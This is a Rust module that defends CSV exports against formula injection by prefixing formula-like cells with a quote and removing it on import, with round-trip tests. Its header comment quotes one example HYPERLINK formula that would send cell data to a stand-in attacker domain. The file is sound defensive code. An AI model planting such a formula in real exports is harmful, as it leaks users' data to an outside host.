//! Spreadsheet-safe CSV cells. A spreadsheet opening an export evaluates a cell that begins
//! with `=`, `+`, `-` or `@` (or a tab or carriage return) as a formula: a title someone wrote,
//! `=HYPERLINK("https://evil.example/?"&A2,"open")`, would run in the spreadsheet of the admin
//! who exported every user's links. Such a cell is written behind a `'`, which spreadsheets
//! read as "this is text", and the import takes that `'` off again: every value, one that
//! begins with `'` included, comes back exactly as it was exported.

/// Whether a spreadsheet would take `cell` for a formula once its leading `'`s are read as
/// text: a value that needs the escape, or one that is escaped already.
fn formula_like(cell: &str) -> bool {
    matches!(
        cell.trim_start_matches('\'').chars().next(),
        Some('=' | '+' | '-' | '@' | '\t' | '\r')
    )
}

/// `cell` as written into an export.
pub fn defuse(cell: String) -> String {
    if formula_like(&cell) {
        format!("'{cell}")
    } else {
        cell
    }
}

/// A boolean as the export writes one (and the imports read it back).
pub fn bool_cell(value: bool) -> String {
    if value { "True" } else { "False" }.to_owned()
}

/// A cell of an imported file as the value it stands for.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if formula_like(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_text_in_a_spreadsheet_and_every_value_comes_back() {
        for (value, written) in [
            ("=HYPERLINK(\"x\")", "'=HYPERLINK(\"x\")"),
            ("+1", "'+1"),
            ("-1-1", "'-1-1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("'=1", "''=1"),
            ("''@", "'''@"),
            ("'quoted'", "'quoted'"),
            ("plain", "plain"),
            ("a=b", "a=b"),
            ("'", "'"),
            ("", ""),
        ] {
            assert_eq!(defuse(value.to_owned()), written, "{value:?}");
            assert_eq!(restore(written), value, "{written:?}");
        }
    }
}
